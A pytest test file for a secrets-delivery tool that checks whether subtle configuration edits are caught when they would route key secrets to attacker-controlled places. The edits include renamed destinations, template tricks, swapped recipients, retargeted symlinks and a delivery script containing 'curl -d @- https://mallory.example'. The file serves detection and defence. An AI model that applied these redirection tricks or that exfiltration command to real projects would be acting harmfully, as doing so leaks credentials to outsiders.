"""Goal: have the secret of a key delivered to a place of the attacker's, by a change that looks harmless."""

from __future__ import annotations

import json
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from jsonschema import Draft202012Validator

from reconciler.files import shipped_schema
from support.repository import commit

if TYPE_CHECKING:
    from collections.abc import Callable

    from support.command import Ended, Front

SCHEMA = Draft202012Validator(json.loads(shipped_schema("plan.schema.json")))
BASE = """\
version: 1
destinations:
  gh: {type: github-actions, repository: acme/api}
  web: {type: github-actions, repository: acme/web}
  live: {type: vault, path: "{live_name}"}
  files: {type: age, path: "secrets/{name}.age", recipients_file: recipients.txt}
  script: {type: exec, command: [./deliver.sh, "{name}"]}
environments:
  production:
    protected: true
    keys:
      api: {credit_limit: 5, deliver: [{to: gh, as: API}]}
      web: {credit_limit: 5, deliver: [{to: web, as: WEB}]}
      live: {credit_limit: 5, deliver: [{to: live, as: LIVE}]}
      file: {credit_limit: 5, deliver: [{to: files, as: FILE}]}
      script: {credit_limit: 5, deliver: [{to: script, as: SCRIPT}]}
  ci: {keys: {}}
"""
FORMATS = ("text", "markdown", "github", "json")
KEYS = ("api", "web", "live", "file", "script")


@pytest.fixture
def attacked(front: Front) -> Front:
    """Keys that are live, and the declaration of them as it was reviewed in git."""
    front.write(BASE)
    Path("recipients.txt").write_text("age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n")
    Path("deliver.sh").write_text("#!/bin/sh\ncat > /dev/null\n")
    commit()
    for key in KEYS:
        front.state.create_key(f"production/{key}", Decimal(5))
    front.state.travel(timedelta(days=9))
    return front


def changed(old: str, new: str, text: str = BASE) -> str:
    assert old in text
    return text.replace(old, new)


def rotating(text: str) -> str:
    return text.replace("    protected: true\n", "    protected: true\n    defaults: {rotate_every: 1d}\n")


def places(ended: Ended) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for each in ended.document["findings"]:
        if each["rule"] in {"new-place", "moved-place"}:
            found.setdefault(f"{each['severity']} {each['rule']}", []).append(each["address"])
    return found


ELSEWHERE = "mallory/repo"
NEW_KEY = "      x: {credit_limit: 5, deliver: [{to: gh, as: X}]}\n"
MOVES = [
    pytest.param(
        changed("acme/api", ELSEWHERE), {"error new-place": ["production/api"]}, id="the destination is moved"
    ),
    pytest.param(
        changed("gh: {type: github-actions, repository: acme/api}", "api: {type: github-actions, repository: acme/api}")
        .replace("  web: {type", f"  gh: {{type: github-actions, repository: {ELSEWHERE}}}\n  web: {{type")
        .replace("{to: gh, as: API}", "{to: api, as: API}")
        .replace("      web: {credit", f"{NEW_KEY}      web: {{credit"),
        {"error new-place": ["production/x"]},
        id="the old place gets a new name, and the old name leads away for one new key",
    ),
    pytest.param(
        changed("acme/api", ELSEWHERE)
        .replace(", deliver: [{to: gh, as: API}]", "")
        .replace("      web: {credit", f"{NEW_KEY}      web: {{credit"),
        {"error new-place": ["production/x"], "warning moved-place": ["production/api"]},
        id="the keys that are there lose their deliver, and a new one uses the moved name",
    ),
    pytest.param(
        changed("acme/api", '"mallory/{key}"'), {"error new-place": ["production/api"]}, id="a template comes in"
    ),
    pytest.param(
        changed("version: 1\n", 'version: 1\nnaming: "mallory.{environment}/{key}"\n'),
        {"error new-place": ["production/live"]},
        id="the naming that a template uses is changed",
    ),
    pytest.param(
        changed("{type: github-actions, repository: acme/api}", "{type: exec, command: [cat]}"),
        {"error new-place": ["production/api"]},
        id="the type is changed",
    ),
    pytest.param(
        changed("repository: acme/api}", "organization: acme, visibility: all}"),
        {"error new-place": ["production/api"]},
        id="the secret is given to a whole organization",
    ),
    pytest.param(changed("as: API", "as: DEPLOY"), {"warning moved-place": ["production/api"]}, id="another name"),
    pytest.param(
        changed("{to: gh, as: API}", "{to: web, as: API}"),
        {"warning moved-place": ["production/api"]},
        id="a place that the environment knows",
    ),
    pytest.param(
        changed(", deliver: [{to: gh, as: API}]", "").replace(
            "ci: {keys: {}}", "ci: {keys: {x: {credit_limit: 5, deliver: [{to: gh, as: API}]}}}"
        ),
        {"error new-place": ["ci/x"], "warning moved-place": ["production/api"]},
        id="another environment takes the place of a protected key",
    ),
]


@pytest.mark.parametrize(("text", "expected"), MOVES)
def test_a_changed_place_is_found_and_refused_where_it_is_protected(
    attacked: Front, text: str, expected: dict[str, list[str]]
) -> None:
    before = attacked.names()
    # At once and with a rotation; or without one, to have a later rotation deliver there with nothing to be seen.
    for version in (rotating(text), text):
        ended = attacked.write(version)("plan", "--base", "git:HEAD", "--format", "json")
        assert list(SCHEMA.iter_errors(ended.document)) == []
        assert places(ended) == expected
        refused = any(each.startswith("error") for each in expected)
        assert ended.code == (3 if refused else 0)
        if refused:
            assert attacked("apply", "--auto-approve", "--allow-exec", "--base", "git:HEAD").code == 3
    assert attacked.names() == before


def swap_recipients() -> None:
    Path("recipients.txt").write_text("age1mallory\n")


def swap_script() -> None:
    Path("deliver.sh").write_text("#!/bin/sh\ncurl -d @- https://mallory.example\n")


@pytest.mark.parametrize(
    ("swap", "address"), [(swap_recipients, "production/file"), (swap_script, "production/script")]
)
def test_what_a_destination_reads_or_runs_is_part_of_the_place(
    attacked: Front, swap: Callable[[], None], address: str
) -> None:
    attacked.write(rotating(BASE))
    assert places(attacked("plan", "--base", "git:HEAD", "--format", "json")) == {}
    swap()
    commit()
    assert places(attacked("plan", "--base", "git:HEAD~1", "--format", "json")) == {"error new-place": [address]}


def test_a_link_does_not_turn_to_other_recipients_that_were_there_before(attacked: Front) -> None:
    Path("ours.txt").write_text("age1ours\n")
    Path("planted.txt").write_text("age1mallory\n")
    Path("recipients.txt").unlink()
    Path("recipients.txt").symlink_to("ours.txt")
    commit()
    attacked.write(rotating(BASE))
    assert places(attacked("plan", "--base", "git:HEAD", "--format", "json")) == {}
    Path("recipients.txt").unlink()
    Path("recipients.txt").symlink_to("planted.txt")
    shown = attacked("plan", "--base", "git:HEAD", "--format", "json")
    assert places(shown) == {"error new-place": ["production/file"]}


def test_a_folder_does_not_become_a_link(attacked: Front) -> None:
    Path("elsewhere").mkdir()
    Path("secrets").symlink_to("elsewhere")
    commit()
    attacked.write(rotating(BASE))
    shown = attacked("plan", "--base", "git:HEAD~1", "--format", "json")
    assert places(shown) == {"error new-place": ["production/file"]}


def test_recipients_are_compared_with_those_beside_an_old_file_too(attacked: Front) -> None:
    Path("old").mkdir()
    Path("old/keys.yaml").write_text(BASE)
    for name in ("recipients.txt", "deliver.sh"):
        Path("old", name).write_bytes(Path(name).read_bytes())
    attacked.write(rotating(BASE))
    assert places(attacked("plan", "--base", "old/keys.yaml", "--format", "json")) == {}
    swap_recipients()
    shown = attacked("plan", "--base", "old/keys.yaml", "--format", "json")
    assert places(shown) == {"error new-place": ["production/file"]}


def test_every_format_names_each_place_and_json_says_which_are_new(attacked: Front) -> None:
    keys = "".join(f"      k{number}: {{credit_limit: 5, deliver: [{{to: gh, as: K}}]}}\n" for number in range(30))
    text = changed("acme/api", '"mallory/{key}"').replace("    protected: true\n", "")
    attacked.write(text.replace("  ci: {keys: {}}", f"  ci:\n    keys:\n{keys}"))
    shown = {each: attacked("plan", "--base", "git:HEAD", "--allow", "*", "--format", each) for each in FORMATS}
    for output_format, ended in shown.items():
        assert ended.code == 0
        assert all(f"mallory/k{number}" in ended.out for number in range(30)), output_format
    document = shown["json"].document
    deliveries = [each for change in document["changes"] for each in change["deliveries"]]
    assert deliveries[0] == {
        "destination": "gh",
        "type": "github-actions",
        "settings": {"repository": "mallory/k0"},
        "name": "K",
        "new": True,
    }
    assert len(document["power"]["gives"]["new_places"]) == len(deliveries) == 30


def test_a_link_that_leads_away_is_named(front: Front) -> None:
    front.write("""\
        version: 1
        destinations: {local: {type: dotenv, path: secrets/ci.env}}
        environments: {ci: {keys: {a: {credit_limit: 1, deliver: [{to: local, as: A}]}}}}
    """)
    Path("elsewhere").mkdir()
    Path("secrets").symlink_to("elsewhere")
    (delivery,) = front("plan", "--format", "json").document["changes"][0]["deliveries"]
    assert (delivery["settings"], delivery["leads_to"]) == ({"path": "secrets/ci.env"}, "elsewhere/ci.env")
    for output_format in ("text", "markdown", "github"):
        assert "elsewhere/ci.env" in front("plan", "--format", output_format).out
